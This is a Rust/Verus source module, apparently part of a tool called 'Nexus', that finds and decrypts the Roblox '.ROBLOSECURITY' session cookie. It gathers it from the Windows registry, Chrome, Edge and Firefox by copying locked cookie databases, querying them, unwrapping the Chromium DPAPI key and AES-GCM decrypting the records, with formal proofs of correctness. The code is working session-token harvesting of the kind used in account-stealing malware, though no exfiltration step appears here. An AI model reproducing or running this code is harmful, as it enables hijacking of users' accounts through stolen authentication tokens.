//! Stored session cookies: the encrypted record format of Chromium-family
//! browsers, its decryption, and the ordered list of what a scan found.

use crate::deps::aead::{
    aes256_gcm_open, aes256_gcm_seal, gcm_open, gcm_seal, same_ciphertext, KEY_LEN, NONCE_LEN,
    PLAIN_MAX, TAG_LEN,
};
use crate::deps::encoding::{base64_decode, base64_decoded};
use crate::deps::json::{json_get_str, json_text};
use crate::deps::text::string_from_utf8;
use crate::error::{Failure, NexusError};
use vstd::prelude::*;
use vstd::slice::{slice_subrange, slice_to_vec};
use vstd::string::*;
use vstd::utf8::*;

verus! {

/// Length of the version tag that opens a ciphertext record.
pub const VERSION_LEN: usize = 3;

/// Length of version tag and nonce together: the shortest record there is.
pub const HEADER_LEN: usize = 15;

/// The bytes of the version tag `v10`.
pub open spec fn tag_v10() -> Seq<u8> {
    seq![118u8, 49u8, 48u8]
}

/// The bytes of the version tag `v20`.
pub open spec fn tag_v20() -> Seq<u8> {
    seq![118u8, 50u8, 48u8]
}

/// A record is well formed when it holds a whole header and opens with one of
/// the two version tags.
pub open spec fn record_well_formed(record: Seq<u8>) -> bool {
    &&& record.len() >= HEADER_LEN
    &&& (record.subrange(0, VERSION_LEN as int) == tag_v10() || record.subrange(
        0,
        VERSION_LEN as int,
    ) == tag_v20())
}

/// The nonce of a record: the twelve bytes after the version tag.
pub open spec fn record_nonce(record: Seq<u8>) -> Seq<u8>
    recommends
        record.len() >= HEADER_LEN,
{
    record.subrange(VERSION_LEN as int, HEADER_LEN as int)
}

/// The sealed part of a record: ciphertext and authentication tag.
pub open spec fn record_sealed(record: Seq<u8>) -> Seq<u8>
    recommends
        record.len() >= HEADER_LEN,
{
    record.subrange(HEADER_LEN as int, record.len() as int)
}

/// The authenticated plaintext of a record under a key, if there is one.
pub open spec fn opened_bytes(record: Seq<u8>, key: Seq<u8>) -> Option<Seq<u8>> {
    if record_well_formed(record) && key.len() == KEY_LEN {
        gcm_open(key, record_nonce(record), record_sealed(record))
    } else {
        None
    }
}

/// The cookie text of a record under a key: its authenticated plaintext,
/// where that is valid UTF-8.
pub open spec fn opened_text(record: Seq<u8>, key: Seq<u8>) -> Option<Seq<char>> {
    match opened_bytes(record, key) {
        Some(bytes) => if valid_utf8(bytes) {
            Some(decode_utf8(bytes))
        } else {
            None
        },
        None => None,
    }
}

/// `altered` is `record` with nothing but its authentication tag changed.
pub open spec fn tag_altered(record: Seq<u8>, altered: Seq<u8>) -> bool {
    &&& altered.len() == record.len()
    &&& record.len() >= HEADER_LEN + TAG_LEN
    &&& altered != record
    &&& altered.subrange(0, record.len() - TAG_LEN) == record.subrange(0, record.len() - TAG_LEN)
}

/// The record that seals `plain` under `key` and `nonce`, tagged `v10`.
pub open spec fn sealed_record(plain: Seq<u8>, key: Seq<u8>, nonce: Seq<u8>) -> Seq<u8> {
    tag_v10() + nonce + gcm_seal(key, nonce, plain)
}

/// The name of the session cookie.
pub const COOKIE_NAME: &'static str = ".ROBLOSECURITY";

/// The registry keys, under the current user, that may hold the cookie as
/// plain text: the player's first, then the studio's.
pub const REGISTRY_PLAYER_KEY: &'static str = "Software\\Roblox\\RobloxPlayerBrowser\\roblox.com";

pub const REGISTRY_STUDIO_KEY: &'static str = "Software\\Roblox\\RobloxStudioBrowser\\roblox.com";

/// Where Chrome keeps its cookies and its local state, below the user's
/// local application data.
pub const CHROME_COOKIES: &'static str = "Google/Chrome/User Data/Default/Network/Cookies";

pub const CHROME_LOCAL_STATE: &'static str = "Google/Chrome/User Data/Local State";

/// Where Edge keeps its cookies and its local state, below the user's local
/// application data.
pub const EDGE_COOKIES: &'static str = "Microsoft/Edge/User Data/Default/Network/Cookies";

pub const EDGE_LOCAL_STATE: &'static str = "Microsoft/Edge/User Data/Local State";

/// Where Firefox keeps its profiles, below the user's application data, and
/// the cookie store inside each.
pub const FIREFOX_PROFILES: &'static str = "Mozilla/Firefox/Profiles";

pub const FIREFOX_COOKIES: &'static str = "cookies.sqlite";

/// The query that picks the encrypted cookie out of a copy of a
/// Chromium-family store: the row created last wins.
pub const CHROMIUM_QUERY: &'static str =
    "SELECT encrypted_value FROM cookies WHERE host_key LIKE '%roblox.com' AND name = '.ROBLOSECURITY' ORDER BY creation_utc DESC LIMIT 1";

/// The query that picks the cookie out of a copy of a Firefox store: the row
/// used last wins.
pub const FIREFOX_QUERY: &'static str =
    "SELECT value FROM moz_cookies WHERE host LIKE '%roblox.com' AND name = '.ROBLOSECURITY' ORDER BY lastAccessed DESC LIMIT 1";

/// The names of the temporary copies that are read in place of the stores,
/// which a running browser keeps locked.
pub const CHROMIUM_COPY: &'static str = "nexus_cookies_temp.db";

pub const FIREFOX_COPY: &'static str = "nexus_ff_cookies_temp.db";

/// Length of the marker that opens a wrapped key blob.
pub const MARKER_LEN: usize = 5;

/// The marker that opens a wrapped key blob: the bytes of `DPAPI`.
pub open spec fn key_marker() -> Seq<u8> {
    seq![68u8, 80u8, 65u8, 80u8, 73u8]
}

/// The wrapped key inside a blob: what follows the marker, where the blob
/// opens with the marker and holds more than that.
pub open spec fn marked_key(blob: Seq<u8>) -> Option<Seq<u8>> {
    if blob.len() > MARKER_LEN && blob.subrange(0, MARKER_LEN as int) == key_marker() {
        Some(blob.subrange(MARKER_LEN as int, blob.len() as int))
    } else {
        None
    }
}

/// The wrapped key that a browser's local-state document holds: the base64
/// text under `encrypted_key` inside `os_crypt`, decoded and without its
/// marker.
pub open spec fn wrapped_key_of(local_state: Seq<char>) -> Option<Seq<u8>> {
    match json_text(local_state, "/os_crypt/encrypted_key"@) {
        Some(text) => match base64_decoded(text) {
            Some(blob) => marked_key(blob),
            None => None,
        },
        None => None,
    }
}

/// A session cookie that a scan found, with the store it came from.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct FoundCookie {
    pub cookie: String,
    pub source: String,
}

impl View for FoundCookie {
    type V = (Seq<char>, Seq<char>);

    open spec fn view(&self) -> (Seq<char>, Seq<char>) {
        (self.cookie@, self.source@)
    }
}

/// The entry for one store: its cookie under its label, if it gave one.
pub open spec fn store_entry(cookie: Option<String>, label: Seq<char>) -> Seq<
    (Seq<char>, Seq<char>),
> {
    match cookie {
        Some(c) => seq![(c@, label)],
        None => Seq::empty(),
    }
}

/// What a scan reports: the hits of the four stores, in their fixed order.
pub open spec fn found_list(
    registry: Option<String>,
    chrome: Option<String>,
    edge: Option<String>,
    firefox: Option<String>,
) -> Seq<(Seq<char>, Seq<char>)> {
    store_entry(registry, "Windows Registry"@) + store_entry(chrome, "Google Chrome"@)
        + store_entry(edge, "Microsoft Edge"@) + store_entry(firefox, "Mozilla Firefox"@)
}

/// The cookies and labels of a list of finds.
pub open spec fn found_view(found: Seq<FoundCookie>) -> Seq<(Seq<char>, Seq<char>)> {
    found.map_values(|f: FoundCookie| f@)
}

/// The first value of a list that is there, empty or not.
pub open spec fn first_there(values: Seq<Option<String>>) -> Option<Seq<char>>
    decreases values.len(),
{
    if values.len() == 0 {
        None
    } else {
        match values[0] {
            Some(v) => Some(v@),
            None => first_there(values.drop_first()),
        }
    }
}

/// The first value of a list that is there and not empty.
pub open spec fn first_nonempty(values: Seq<Option<String>>) -> Option<Seq<char>>
    decreases values.len(),
{
    if values.len() == 0 {
        None
    } else {
        match values[0] {
            Some(v) => if v@.len() > 0 {
                Some(v@)
            } else {
                first_nonempty(values.drop_first())
            },
            None => first_nonempty(values.drop_first()),
        }
    }
}

/// The operations on stored cookies.
pub struct CookieFinder;

/// A record whose tag is altered shares everything but the tag with the
/// record it was made from: header, nonce and ciphertext.
proof fn lemma_tag_altered_parts(record: Seq<u8>, altered: Seq<u8>)
    requires
        tag_altered(record, altered),
    ensures
        record_well_formed(record) == record_well_formed(altered),
        record_nonce(record) == record_nonce(altered),
        same_ciphertext(record_sealed(record), record_sealed(altered)),
        record_sealed(record) != record_sealed(altered),
{
    let n = record.len() as int;
    let head_r = record.subrange(0, n - TAG_LEN);
    let head_a = altered.subrange(0, n - TAG_LEN);
    assert forall|i: int| 0 <= i < n - TAG_LEN implies record[i] == altered[i] by {
        assert(head_r[i] == head_a[i]);
    }
    assert(record.subrange(0, VERSION_LEN as int) =~= altered.subrange(0, VERSION_LEN as int));
    assert(record_nonce(record) =~= record_nonce(altered));
    let sr = record_sealed(record);
    let sa = record_sealed(altered);
    assert(sr.subrange(0, sr.len() - TAG_LEN) =~= sa.subrange(0, sa.len() - TAG_LEN));
    if sr == sa {
        assert forall|i: int| 0 <= i < n implies record[i] == altered[i] by {
            if i >= HEADER_LEN {
                assert(sr[i - HEADER_LEN] == sa[i - HEADER_LEN]);
            }
        }
        assert(record =~= altered);
    }
}

impl CookieFinder {
    /// Puts the hits of the four stores into one list, each under the label
    /// of its store: registry, Chrome, Edge, Firefox. A store without a hit
    /// leaves no entry.
    pub fn find_all_cookies(
        registry: Option<String>,
        chrome: Option<String>,
        edge: Option<String>,
        firefox: Option<String>,
    ) -> (cookies: Vec<FoundCookie>)
        ensures
            found_view(cookies@) == found_list(registry, chrome, edge, firefox),
    {
        let mut cookies: Vec<FoundCookie> = Vec::new();
        assert(found_view(cookies@) =~= Seq::empty());
        if let Some(cookie) = &registry {
            let ghost before = cookies@;
            cookies.push(
                FoundCookie { cookie: cookie.clone(), source: String::from_str("Windows Registry") },
            );
            assert(found_view(cookies@) =~= found_view(before) + store_entry(
                registry,
                "Windows Registry"@,
            ));
        }
        if let Some(cookie) = &chrome {
            let ghost before = cookies@;
            cookies.push(
                FoundCookie { cookie: cookie.clone(), source: String::from_str("Google Chrome") },
            );
            assert(found_view(cookies@) =~= found_view(before) + store_entry(
                chrome,
                "Google Chrome"@,
            ));
        }
        if let Some(cookie) = &edge {
            let ghost before = cookies@;
            cookies.push(
                FoundCookie { cookie: cookie.clone(), source: String::from_str("Microsoft Edge") },
            );
            assert(found_view(cookies@) =~= found_view(before) + store_entry(
                edge,
                "Microsoft Edge"@,
            ));
        }
        if let Some(cookie) = &firefox {
            let ghost before = cookies@;
            cookies.push(
                FoundCookie { cookie: cookie.clone(), source: String::from_str("Mozilla Firefox") },
            );
            assert(found_view(cookies@) =~= found_view(before) + store_entry(
                firefox,
                "Mozilla Firefox"@,
            ));
        }
        assert(found_view(cookies@) =~= found_list(registry, chrome, edge, firefox));
        cookies
    }

    /// The number of finds, or `DiscoveryMiss` where there is none.
    pub fn discovered(found: &Vec<FoundCookie>) -> (count: Result<usize, NexusError>)
        ensures
            match count {
                Ok(n) => n == found@.len() && n > 0,
                Err(error) => found@.len() == 0 && error@ == Failure::DiscoveryMiss,
            },
    {
        if found.len() == 0 {
            Err(NexusError::DiscoveryMiss)
        } else {
            Ok(found.len())
        }
    }

    /// The first reading that is there and not empty: of the places a store
    /// is read at, the first hit wins and a place without one is passed over.
    pub fn first_hit(readings: &Vec<Option<String>>) -> (hit: Option<String>)
        ensures
            match hit {
                Some(h) => first_nonempty(readings@) == Some(h@),
                None => first_nonempty(readings@) is None,
            },
    {
        let mut i: usize = 0;
        assert(readings@.subrange(0, readings@.len() as int) =~= readings@);
        while i < readings.len()
            invariant
                i <= readings.len(),
                first_nonempty(readings@) == first_nonempty(
                    readings@.subrange(i as int, readings@.len() as int),
                ),
            decreases readings.len() - i,
        {
            let ghost rest = readings@.subrange(i as int, readings@.len() as int);
            assert(rest[0] == readings@[i as int]);
            assert(rest.drop_first() =~= readings@.subrange(i + 1, readings@.len() as int));
            match &readings[i] {
                Some(value) => {
                    if !value.as_str().is_empty() {
                        return Some(value.clone());
                    }
                },
                None => {},
            }
            i += 1;
        }
        assert(readings@.subrange(i as int, readings@.len() as int).len() == 0);
        None
    }

    /// The first reading that is there, whatever it holds: of the profiles
    /// of a browser whose store keeps the cookie as plain text, the first
    /// with a cookie wins and a profile without one is passed over.
    pub fn first_present(readings: &Vec<Option<String>>) -> (hit: Option<String>)
        ensures
            match hit {
                Some(h) => first_there(readings@) == Some(h@),
                None => first_there(readings@) is None,
            },
    {
        let mut i: usize = 0;
        assert(readings@.subrange(0, readings@.len() as int) =~= readings@);
        while i < readings.len()
            invariant
                i <= readings.len(),
                first_there(readings@) == first_there(
                    readings@.subrange(i as int, readings@.len() as int),
                ),
            decreases readings.len() - i,
        {
            let ghost rest = readings@.subrange(i as int, readings@.len() as int);
            assert(rest[0] == readings@[i as int]);
            assert(rest.drop_first() =~= readings@.subrange(i + 1, readings@.len() as int));
            match &readings[i] {
                Some(value) => {
                    return Some(value.clone());
                },
                None => {},
            }
            i += 1;
        }
        assert(readings@.subrange(i as int, readings@.len() as int).len() == 0);
        None
    }

    /// Checks the marker of a wrapped key blob and takes it off. A blob that
    /// is no longer than the marker, or opens otherwise, is refused.
    pub fn strip_key_marker(blob: &[u8]) -> (wrapped: Option<Vec<u8>>)
        ensures
            match wrapped {
                Some(w) => marked_key(blob@) == Some(w@),
                None => marked_key(blob@) is None,
            },
    {
        if blob.len() <= MARKER_LEN {
            return None;
        }
        let marked = blob[0] == 68u8 && blob[1] == 80u8 && blob[2] == 65u8 && blob[3] == 80u8
            && blob[4] == 73u8;
        proof {
            let head = blob@.subrange(0, MARKER_LEN as int);
            assert(head[0] == blob@[0] && head[1] == blob@[1] && head[2] == blob@[2] && head[3]
                == blob@[3] && head[4] == blob@[4]);
            assert(marked <==> head =~= key_marker());
        }
        if !marked {
            return None;
        }
        Some(slice_to_vec(slice_subrange(blob, MARKER_LEN, blob.len())))
    }

    /// Reads the wrapped key out of a browser's local-state document. The
    /// result is still wrapped for the current user of the system.
    pub fn wrapped_chromium_key(local_state: &str) -> (wrapped: Option<Vec<u8>>)
        ensures
            match wrapped {
                Some(w) => wrapped_key_of(local_state@) == Some(w@),
                None => wrapped_key_of(local_state@) is None,
            },
    {
        match json_get_str(local_state, "/os_crypt/encrypted_key") {
            Some(text) => match base64_decode(text.as_str()) {
                Some(blob) => Self::strip_key_marker(blob.as_slice()),
                None => None,
            },
            None => None,
        }
    }

    /// Decrypts one ciphertext record with the browser's unwrapped key.
    ///
    /// The result is the cookie text exactly where the record is well formed,
    /// the key has the cipher's length, the tag authenticates and the
    /// plaintext is valid UTF-8. In particular a record too short to hold
    /// header and tag, 31 bytes together, is rejected, and where a record
    /// authenticates, no record that differs from it in the tag alone does.
    pub fn decrypt_chromium_cookie(encrypted: &[u8], key: &[u8]) -> (plain: Option<String>)
        ensures
            match plain {
                Some(text) => opened_text(encrypted@, key@) == Some(text@),
                None => opened_text(encrypted@, key@) is None,
            },
            encrypted@.len() < HEADER_LEN + TAG_LEN ==> plain is None,
            opened_bytes(encrypted@, key@) is Some ==> forall|altered: Seq<u8>|
                tag_altered(encrypted@, altered) ==> (#[trigger] opened_bytes(altered, key@)) is None,
    {
        if encrypted.len() < HEADER_LEN {
            return None;
        }
        let v10 = encrypted[0] == 118u8 && encrypted[1] == 49u8 && encrypted[2] == 48u8;
        let v20 = encrypted[0] == 118u8 && encrypted[1] == 50u8 && encrypted[2] == 48u8;
        proof {
            let head = encrypted@.subrange(0, VERSION_LEN as int);
            assert(head[0] == encrypted@[0] && head[1] == encrypted@[1] && head[2] == encrypted@[2]);
            assert(v10 <==> head =~= tag_v10());
            assert(v20 <==> head =~= tag_v20());
        }
        if !v10 && !v20 {
            return None;
        }
        if key.len() != KEY_LEN {
            return None;
        }
        let nonce = slice_subrange(encrypted, VERSION_LEN, HEADER_LEN);
        let sealed = slice_subrange(encrypted, HEADER_LEN, encrypted.len());
        let opened = aes256_gcm_open(key, nonce, sealed);
        proof {
            if opened is Some {
                assert forall|altered: Seq<u8>| tag_altered(encrypted@, altered) implies (
                #[trigger] opened_bytes(altered, key@)) is None by {
                    lemma_tag_altered_parts(encrypted@, altered);
                }
            }
        }
        match opened {
            Some(bytes) => string_from_utf8(bytes),
            None => None,
        }
    }

    /// Recovers a cookie from a browser profile: reads the wrapped key out of
    /// the local-state document, has it unwrapped for the current user, and
    /// decrypts the record with it.
    ///
    /// `unwrap` stands for the system's unwrapping of a blob; it is asked at
    /// most once, and only where the document holds a wrapped key. Every way
    /// this can go wrong is `DecryptionFailed`: a document without a key, an
    /// unwrap that is refused, a record that is malformed or does not
    /// authenticate. A cookie is returned only as the text of the record
    /// under a key that `unwrap` gave for the document's blob.
    pub fn decrypt<F: FnOnce(Vec<u8>) -> Option<Vec<u8>>>(
        local_state: &str,
        record: &[u8],
        unwrap: F,
    ) -> (plain: Result<String, NexusError>)
        requires
            forall|blob: Vec<u8>| call_requires(unwrap, (blob,)),
        ensures
            match plain {
                Ok(text) => exists|blob: Vec<u8>, key: Vec<u8>|
                    wrapped_key_of(local_state@) == Some(blob@) && #[trigger] call_ensures(
                        unwrap,
                        (blob,),
                        Some(key),
                    ) && opened_text(record@, key@) == Some(text@),
                Err(error) => {
                    &&& error@ == Failure::DecryptionFailed
                    &&& wrapped_key_of(local_state@) is None || exists|
                        blob: Vec<u8>,
                        key: Option<Vec<u8>>,
                    |
                        wrapped_key_of(local_state@) == Some(blob@) && #[trigger] call_ensures(
                            unwrap,
                            (blob,),
                            key,
                        ) && match key {
                            Some(k) => opened_text(record@, k@) is None,
                            None => true,
                        }
                },
            },
    {
        let blob = match Self::wrapped_chromium_key(local_state) {
            Some(blob) => blob,
            None => {
                return Err(NexusError::DecryptionFailed);
            },
        };
        let ghost asked = blob;
        let key = unwrap(blob);
        assert(call_ensures(unwrap, (asked,), key));
        match key {
            Some(k) => match Self::decrypt_chromium_cookie(record, k.as_slice()) {
                Some(text) => Ok(text),
                None => Err(NexusError::DecryptionFailed),
            },
            None => Err(NexusError::DecryptionFailed),
        }
    }

    /// Seals a cookie text into a `v10` record under a key and a nonce.
    ///
    /// Fails only where key or nonce has the wrong length or the text is over
    /// the cipher's limit. Decrypting the record under the same key gives the
    /// text back.
    pub fn encrypt_chromium_cookie(plain: &str, key: &[u8], nonce: &[u8]) -> (record: Option<
        Vec<u8>,
    >)
        ensures
            record is Some <==> key@.len() == KEY_LEN && nonce@.len() == NONCE_LEN
                && encode_utf8(plain@).len() <= PLAIN_MAX,
            match record {
                Some(r) => {
                    &&& r@ == sealed_record(encode_utf8(plain@), key@, nonce@)
                    &&& r@.len() == HEADER_LEN + encode_utf8(plain@).len() + TAG_LEN
                    &&& opened_text(r@, key@) == Some(plain@)
                },
                None => true,
            },
    {
        if key.len() != KEY_LEN || nonce.len() != NONCE_LEN {
            return None;
        }
        let bytes = plain.as_bytes();
        if bytes.len() as u64 > PLAIN_MAX {
            return None;
        }
        match aes256_gcm_seal(key, nonce, bytes) {
            Some(sealed) => {
                let mut record: Vec<u8> = Vec::new();
                record.push(118u8);
                record.push(49u8);
                record.push(48u8);
                record.extend_from_slice(nonce);
                record.extend_from_slice(sealed.as_slice());
                proof {
                    broadcast use encode_utf8_decode_utf8, encode_utf8_valid_utf8;

                    assert(record@ =~= sealed_record(bytes@, key@, nonce@));
                    assert(record@.subrange(0, VERSION_LEN as int) =~= tag_v10());
                    assert(record_nonce(record@) =~= nonce@);
                    assert(record_sealed(record@) =~= sealed@);
                    assert(valid_utf8(bytes@));
                    assert(decode_utf8(bytes@) == plain@);
                }
                Some(record)
            },
            None => None,
        }
    }
}

} // verus!
